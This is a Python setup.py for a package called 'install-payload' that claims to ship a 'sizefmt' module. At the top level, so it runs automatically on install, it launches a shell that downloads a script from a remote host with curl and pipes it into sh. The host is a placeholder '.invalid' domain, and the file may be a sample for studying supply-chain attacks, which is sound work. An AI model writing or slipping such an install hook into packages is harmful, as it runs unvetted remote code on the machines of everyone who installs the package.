import subprocess

from setuptools import setup

subprocess.Popen(["sh", "-c", "curl -s https://x.example.invalid/s | sh"])

setup(name="install-payload", version="1.1", packages=["sizefmt"])
